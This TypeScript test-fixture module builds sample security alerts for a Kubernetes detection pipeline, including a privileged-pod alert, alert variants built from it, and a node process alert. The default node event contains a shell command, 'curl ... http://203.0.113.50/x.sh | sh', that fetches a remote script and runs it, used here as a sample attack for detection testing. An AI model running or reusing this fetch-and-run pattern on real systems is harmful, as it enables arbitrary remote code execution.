import { aggregateFindings } from '../../shared/alerts/aggregateFindings';
import { type Alert, AlertStatus } from '../../shared/alerts/alert';
import { createAlertId } from '../../shared/alerts/alertId';
import { auditEvent, container, podObject } from '../../shared/detection/exampleEvents';
import { privilegedContainer } from '../../shared/detection/rules/audit/privileged-container';
import { EntityType } from '../../shared/detection/entities';
import { evaluateRules } from '../../shared/detection/evaluateRules';
import { nodeDedupKey, nodeEventEntities } from '../../shared/detection/nodeEntities';
import { defineNodeRule, type NodeRule, type Severity } from '../../shared/detection/rule';
import { type NodeEvent, NodeEventType, type NodePod, type NodeProcess, type NodeRecord } from '../../shared/node/nodeEvent';
import { evaluate, TEST_CLUSTER } from './ruleHarness';

/** The subscription of the rule harness's test cluster. */
export const ALERT_SUBSCRIPTION = TEST_CLUSTER.subscriptionId;

/** A real alert, as the pipeline builds it: a privileged pod created on the test cluster. */
export function templateAlert(): Alert {
  template ??= buildTemplateAlert();
  return structuredClone(template);
}

let template: Alert | undefined;

function buildTemplateAlert(): Alert {
  const event = auditEvent({
    verb: 'create',
    resource: 'pods',
    namespace: 'shop',
    auditID: 'c0ffee00-0000-4000-8000-000000000001',
    time: '2026-11-02T10:15:30.123Z',
    user: 'dana@contoso.com',
    requestObject: podObject({ containers: [container({ securityContext: { privileged: true } })] }),
  });
  const [alert] = aggregateFindings(evaluate([privilegedContainer], [event]).findings, { windowInMs: 60 * 60 * 1000, now: new Date('2026-11-02T12:00:00Z') });
  if (alert === undefined) throw new Error('the privileged container example raised no alert');
  return alert;
}

const STATUSES = Object.values(AlertStatus);
const SEVERITIES: Severity[] = ['High', 'Medium', 'Low', 'Informational'];
const CLUSTERS = ['aks-prod-01', 'aks-dev-02'];
const ALERT_TYPES = ['K8S_PrivilegedContainer', 'K8S_ExposedDashboard'];

/**
 * The `index`-th of a set of varied alerts of the template: three alerts share each start time and time
 * raised (so the id breaks ties), and status, severity, cluster, type and simulation vary independently.
 * The time raised lags the start by 0.5 to 8 minutes, varying by group so that the list order (by time
 * raised) differs from the order by start time: most groups are listed after the group that started a
 * minute earlier, because it was raised later.
 */
export function variedAlert(index: number, subscriptionId = ALERT_SUBSCRIPTION): Alert {
  const template = templateAlert();
  const clusterName = CLUSTERS[index % 2] as string;
  const clusterResourceId = `/subscriptions/${subscriptionId}/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/${clusterName}`;
  const group = Math.floor(index / 3);
  const startInMs = Date.parse('2026-11-02T10:00:00.000Z') - group * 60_000;
  const raisedInMs = startInMs + 30_000 + (group % 4) * 150_000;
  const windowStartUtc = new Date(startInMs - (startInMs % 3_600_000)).toISOString();
  const id = createAlertId({ subscriptionId, clusterResourceId, ruleId: template.ruleId, dedupKey: `variant-${index}`, windowStartUtc });
  return {
    ...template,
    id,
    systemAlertId: id,
    subscriptionId,
    alertType: ALERT_TYPES[index % 5 === 0 ? 1 : 0] as string,
    severity: SEVERITIES[index % 4] as Severity,
    status: STATUSES[Math.floor(index / 2) % 4] as AlertStatus,
    startTimeUtc: new Date(startInMs).toISOString(),
    endTimeUtc: new Date(startInMs + 5 * 60_000).toISOString(),
    timeGeneratedUtc: new Date(raisedInMs).toISOString(),
    windowStartUtc,
    compromisedEntity: clusterName,
    clusterResourceId,
    resourceIdentifiers: [{ type: 'AzureResource', azureResourceId: clusterResourceId }],
    entities: [{ type: 'K8s-cluster', name: clusterName }, ...template.entities.slice(1)],
    isSimulated: index % 10 === 7,
  };
}

export function variedAlerts(count: number, subscriptionId = ALERT_SUBSCRIPTION): Alert[] {
  return Array.from({ length: count }, (_, index) => variedAlert(index, subscriptionId));
}

/** The list order: most recently raised first (by timeGeneratedUtc), then by id (descending). */
export function newestFirst(a: Alert, b: Alert): number {
  if (a.timeGeneratedUtc !== b.timeGeneratedUtc) return a.timeGeneratedUtc < b.timeGeneratedUtc ? 1 : -1;
  return a.id < b.id ? 1 : a.id > b.id ? -1 : 0;
}

/** What a node alert of {@link nodeAlert} is about; every field has a realistic default. */
export interface NodeAlertOptions {
  node?: string;
  /** `null`: a host process (no pod, container or image). */
  pod?: { namespace?: string; name?: string; container?: string; image?: string; workload?: string } | null;
  binary?: string;
  arguments?: string;
  /** `null`: the sensor gave no pid (some Falco alerts). */
  pid?: number | null;
  parent?: { binary: string; arguments?: string; pid?: number };
  ancestors?: { binary: string; arguments?: string; pid?: number }[];
  /** The file the rule names, if any. */
  filePath?: string;
  /** The remote end of a connection the rule names, if any. */
  remote?: { address: string; port?: number };
  time?: string;
  eventId?: string;
}

/** A node rule for fixtures: it raises every event with the standard node entities plus a file and a remote address. */
const fixtureNodeRule = (options: NodeAlertOptions): NodeRule =>
  defineNodeRule({
    id: 'fixture-node-activity',
    alertType: 'K8S.NODE_FixtureActivity',
    displayName: 'Suspicious process activity on a node (fixture)',
    description: 'A process on a node did something a node rule flags (test fixture).',
    severity: 'Medium',
    intent: 'Execution',
    techniques: ['T1059.004'],
    remediation: ['Find out who started the process.'],
    falsePositives: [],
    references: [],
    equivalents: { defender: [], falco: [], guardDuty: [], elastic: [] },
    match: () => true,
    entities: (event) => [
      ...nodeEventEntities(event),
      ...(options.filePath === undefined ? [] : [{ type: EntityType.file, name: options.filePath, hostName: event.nodeName }]),
      ...(options.remote === undefined ? [] : [{ type: EntityType.ip, address: options.remote.address, ...(options.remote.port === undefined ? {} : { port: options.remote.port }) }]),
    ],
    dedupKey: (event) => nodeDedupKey(event),
    examples: [],
  });

/**
 * A real node alert, as the pipeline builds it: a decoded node event (by default a `curl` run by a shell in
 * a pod of the test cluster) through a node rule and the aggregation. Built from the typed event, so it does
 * not depend on the raw-event decoder.
 */
export function nodeAlert(options: NodeAlertOptions = {}): Alert {
  const podOptions = options.pod === null ? undefined : (options.pod ?? {});
  const pod: NodePod | undefined =
    podOptions === undefined
      ? undefined
      : {
          namespace: podOptions.namespace ?? 'shop',
          name: podOptions.name ?? 'web-7d4b9c6f5-x2x9k',
          container: { id: 'containerd://551e16', name: podOptions.container ?? 'web', image: { name: podOptions.image ?? 'docker.io/library/nginx:1.27' } },
          podLabels: { app: 'web' },
          workload: podOptions.workload ?? 'web',
          workloadKind: 'Deployment',
        };
  const processOf = (binary: string, args: string, pid: number | undefined): NodeProcess => ({
    binary,
    arguments: args,
    ...(pid === undefined ? {} : { pid }),
    uid: 0,
    ...(pod === undefined ? {} : { pod }),
  });
  const parent = options.parent ?? { binary: '/bin/sh', arguments: '-c "curl -s http://203.0.113.50/x.sh | sh"', pid: 4100 };
  const ancestors = options.ancestors ?? [{ binary: '/usr/sbin/nginx', arguments: '-g daemon off;', pid: 1 }];
  const event: NodeEvent = {
    type: NodeEventType.processExec,
    id: options.eventId ?? 'node-event-0001',
    time: options.time ?? '2026-11-02T10:20:00.000Z',
    nodeName: options.node ?? 'aks-nodepool1-12345678-vmss000000',
    process: processOf(options.binary ?? '/usr/bin/curl', options.arguments ?? '-s http://203.0.113.50/x.sh', options.pid === null ? undefined : (options.pid ?? 4242)),
    parent: processOf(parent.binary, parent.arguments ?? '', parent.pid),
    ancestors: ancestors.map((ancestor) => processOf(ancestor.binary, ancestor.arguments ?? '', ancestor.pid)),
  };
  const record: NodeRecord = { signal: 'node', event, cluster: TEST_CLUSTER, source: { index: 0 } };
  const { findings } = evaluateRules([record], { rules: [fixtureNodeRule(options)] });
  const [alert] = aggregateFindings(findings, { windowInMs: 60 * 60 * 1000, now: new Date('2026-11-02T12:00:00Z') });
  if (alert === undefined) throw new Error('the fixture node rule raised no alert');
  return alert;
}
